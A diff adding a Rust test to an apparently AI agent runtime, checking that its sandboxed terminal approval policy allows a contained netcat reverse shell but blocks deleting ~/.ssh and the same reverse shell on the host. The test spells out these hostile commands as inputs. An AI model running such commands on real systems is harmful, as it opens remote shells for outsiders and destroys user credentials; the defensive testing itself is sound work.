@@ -194,3 +194,39 @@ fn sandbox_contains_a_root_host() {
     assert_eq!(v["output"], "ok", "{v}");
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// The approval policy knows the terminal runs in the sandbox: an effect the
+/// sandbox contains (a reverse shell with no network) is not asked about,
+/// and what it does not contain still is.
+#[test]
+fn approval_knows_what_the_sandbox_contains() {
+    if !have_bwrap() {
+        eprintln!("bubblewrap not usable here: skipped");
+        return;
+    }
+    let dir = workdir("approve");
+    // Approvals on, no handler: anything that needs asking is denied.
+    let cfg = json!({"builtin_toolsets": ["terminal"],
+        "terminal": {"backend": "sandbox", "cwd": dir.display().to_string()}});
+    let rt = Runtime::new(&cfg.to_string()).unwrap();
+    let v = sh(&rt, "nc -e /bin/sh 203.0.113.1 4444 2>/dev/null; echo ran");
+    assert_ne!(
+        v["status"], "blocked",
+        "contained by the sandbox (no network): {v}"
+    );
+    assert!(v["output"].as_str().unwrap_or("").contains("ran"), "{v}");
+    let v = sh(&rt, "rm -rf ~/.ssh");
+    assert_eq!(
+        v["status"], "blocked",
+        "a home directory is not the workspace: {v}"
+    );
+    // The same command on the host is asked about (and denied here).
+    let host = Runtime::new(r#"{"builtin_toolsets":["terminal"]}"#).unwrap();
+    let v = call(
+        &host,
+        "terminal",
+        json!({"command": "nc -e /bin/sh 203.0.113.1 4444; echo ran"}),
+    );
+    assert_eq!(v["status"], "blocked", "{v}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
